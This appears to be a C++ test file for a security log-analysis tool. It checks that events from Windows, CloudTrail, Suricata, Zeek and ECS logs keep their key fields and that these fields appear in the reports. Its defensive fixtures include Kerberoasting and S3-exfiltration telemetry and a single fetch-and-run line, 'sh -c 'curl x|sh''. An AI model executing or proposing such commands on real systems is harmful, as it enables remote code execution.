// issue 21 item 9: each format's decisive fields are stored with the event (events.details)
// and every report (text, Markdown, JSON, PDF) shows them in its timeline and summary; the PDF
// incident list names each incident's entity.
#include <simdjson.h>

#include <catch2/catch.hpp>
#include <cstdlib>
#include <set>
#include <string>
#include <vector>

#include "support/test_support.h"

using vigil::testing::ParseJson;
using vigil::testing::RawRows;
using vigil::testing::RunCli;
using vigil::testing::RunOn;
using vigil::testing::SampleStore;
using vigil::testing::SourcePath;
using vigil::testing::TempDir;
using vigil::testing::WriteText;

namespace {

std::string DetailsWhere(const std::string& db, const std::string& where) {
  auto rows = RawRows(db, "SELECT details FROM events WHERE " + where + " ORDER BY id LIMIT 1");
  return rows.empty() ? "(no row)" : rows[0];
}

}  // namespace

TEST_CASE("issue 21: ingest stores the decisive fields of each format", "[report][details]") {
  TempDir dir;
  const std::string db = dir.File("d.db");
  SECTION("Windows: Kerberos service and ticket encryption; process image, command line, parent") {
    REQUIRE(
        RunCli({"--db", db, "ingest", "--quiet", SourcePath("samples/windows-purplesharp.jsonl")})
            .code == 0);
    CHECK(DetailsWhere(db, "json_extract(raw, '$.EventID') = 4769") ==
          R"({"kerberos_service":"sysmonsvc","ticket_encryption":"0x17"})");
    CHECK(DetailsWhere(db, "json_extract(raw, '$.EventID') = 4688") ==
          R"({"image":"C:\\Users\\pgustavo\\Downloads\\PurpleSharp.exe",)"
          R"("command_line":"PurpleSharp.exe  /t T1110.003,T1558.003,T1135,T1021.006",)"
          R"("parent":"C:\\Windows\\System32\\cmd.exe"})");
  }
  SECTION("CloudTrail: the API, its service, the resource, the account and the user agent") {
    REQUIRE(RunCli({"--db", db, "ingest", "--quiet",
                    SourcePath("samples/cloudtrail-s3-exfiltration.json")})
                .code == 0);
    CHECK(DetailsWhere(db, "event_action = 'GetObject'") ==
          R"({"api_service":"s3.amazonaws.com","api":"GetObject",)"
          R"("resource":"mordors3stack-s3bucket-llp2yingx64a/ring.txt",)"
          R"("account":"123456789123",)"
          R"("user_agent":"[aws-cli/1.18.136 Python/3.8.5 Darwin/19.5.0 botocore/1.17.59]"})");
  }
  SECTION("Suricata, Zeek and ECS JSON; a field of another type never fails the record") {
    const std::string eve = dir.File("eve.json");
    WriteText(
        eve,
        R"({"timestamp":"2021-06-06T15:59:46.457984+0200","flow_id":1,"event_type":"alert",)"
        R"("src_ip":"78.36.196.213","src_port":51698,"dest_ip":"192.168.1.129","dest_port":445,)"
        R"("proto":"TCP","alert":{"action":"allowed","signature_id":2403388,)"
        R"("signature":"ET CINS Poor Reputation IP group 89","category":"Misc Attack"}})"
        "\n"
        R"({"timestamp":"2021-06-06T15:57:37.272281+0200","flow_id":2,"event_type":"http",)"
        R"("src_ip":"182.237.17.202","src_port":59502,"dest_ip":"192.168.1.129",)"
        R"("dest_port":80,"proto":"TCP","http":{"hostname":"147.32.82.197","url":"/admin",)"
        R"("http_user_agent":"curl/8","http_method":"POST","status":403,"length":12}})"
        "\n");
    REQUIRE(RunCli({"--db", db, "ingest", "--quiet", eve}).code == 0);
    CHECK(DetailsWhere(db, "event_action = 'alert'") ==
          R"({"signature":"ET CINS Poor Reputation IP group 89","category":"Misc Attack",)"
          R"("signature_id":2403388})");
    CHECK(DetailsWhere(db, "event_action = 'http'") ==
          R"({"http_method":"POST","http_status":403,"http_bytes":12,"user_agent":"curl/8"})");
    const std::string zeek = dir.File("zeek.log");
    WriteText(zeek, R"({"_path":"kerberos","ts":1588205718.3,"uid":"C1","id.orig_h":"10.0.1.4",)"
                    R"("id.orig_p":1,"id.resp_h":"10.0.0.4","id.resp_p":88,"client":"bob/CORP",)"
                    R"("service":"MSSQLSvc/db01","cipher":"rc4-hmac","success":true})"
                    "\n");
    REQUIRE(RunCli({"--db", db, "ingest", "--quiet", zeek}).code == 0);
    CHECK(DetailsWhere(db, "event_action = 'kerberos'") ==
          R"({"kerberos_service":"MSSQLSvc/db01","ticket_encryption":"rc4-hmac"})");
    const std::string ecs = dir.File("ecs.ndjson");
    WriteText(ecs, R"({"@timestamp":"2026-03-01T10:00:00Z","event":{"action":"exec"},)"
                   R"("process.executable":"/bin/sh","process.command_line":"sh -c 'curl x|sh'",)"
                   R"("process.parent.executable":"/usr/sbin/nginx"})"
                   "\n"
                   R"({"@timestamp":"2026-03-01T10:00:01Z","event":{"action":"odd"},)"
                   R"("status_code":"OK","user_agent":{"name":"x"},"rule":{"name":7}})"
                   "\n");
    auto r = RunCli({"--db", db, "ingest", "--quiet", "--input-format", "ndjson", ecs});
    CHECK(r.code == 0);
    CHECK(DetailsWhere(db, "event_action = 'exec'") ==
          R"({"image":"/bin/sh","command_line":"sh -c 'curl x|sh'","parent":"/usr/sbin/nginx"})");
    CHECK(DetailsWhere(db, "event_action = 'odd'") == "NULL");
  }
}

TEST_CASE("issue 21: reports show the decisive fields and the PDF list each incident's entity",
          "[report][details]") {
  TempDir dir;
  const std::string db = SampleStore(dir);
  simdjson::dom::parser parser;
  const std::string json = RunOn(db, {"--format", "json", "report"});
  simdjson::dom::element doc = ParseJson(parser, json);
  std::set<std::string> summarised, in_timeline;
  for (simdjson::dom::element i : simdjson::dom::array(doc["incidents"])) {
    simdjson::dom::array fields;
    if (i["decisive_fields"].get(fields) == simdjson::SUCCESS) {
      for (simdjson::dom::element f : fields) {
        for (simdjson::dom::element v : simdjson::dom::array(f["values"])) {
          summarised.insert(std::string(std::string_view(f["field"])) + "=" +
                            std::string(std::string_view(v["value"])));
        }
      }
    }
    for (simdjson::dom::element t : simdjson::dom::array(i["timeline"])) {
      simdjson::dom::object details;
      if (t["details"].get(details) != simdjson::SUCCESS) continue;
      for (auto [key, value] : details) {
        in_timeline.insert(std::string(key) + "=" + std::string(std::string_view(value)));
      }
    }
  }
  INFO(json);
  // PurpleSharp's Kerberoasting: RC4 service tickets.
  CHECK(summarised.count("ticket_encryption=0x17") == 1);
  CHECK(in_timeline.count("ticket_encryption=0x17") == 1);

  const std::string text = RunOn(db, {"report"});
  CHECK(text.find("\nDecisive fields\n") != std::string::npos);
  CHECK(text.find("ticket encryption: 0x17 (") != std::string::npos);
  CHECK(text.find("      Kerberos service: ") != std::string::npos);  // under a timeline line
  const std::string md = RunOn(db, {"--format", "markdown", "report"});
  CHECK(md.find("### Decisive fields\n\n- Kerberos service: ") != std::string::npos);
  CHECK(md.find("\n- ticket encryption: 0x17 (") != std::string::npos);

  if (std::system("command -v pdftotext > /dev/null 2>&1") != 0) {
    WARN("pdftotext is not installed (poppler-utils): the PDF's text is not checked");
    return;
  }
  const std::string pdf = dir.File("r.pdf");
  RunOn(db, {"export", "--format", "pdf", "-o", pdf});
  const std::string txt = dir.File("r.txt");
  REQUIRE(std::system(("pdftotext -enc UTF-8 '" + pdf + "' '" + txt + "'").c_str()) == 0);
  const std::string pdf_text = vigil::testing::ReadText(txt);
  CHECK(pdf_text.find("Entity") != std::string::npos);
  CHECK(pdf_text.find("Decisive fields") != std::string::npos);
  CHECK(pdf_text.find("Timeline: decisive fields") != std::string::npos);
  CHECK(pdf_text.find("ticket encryption: 0x17") != std::string::npos);
}
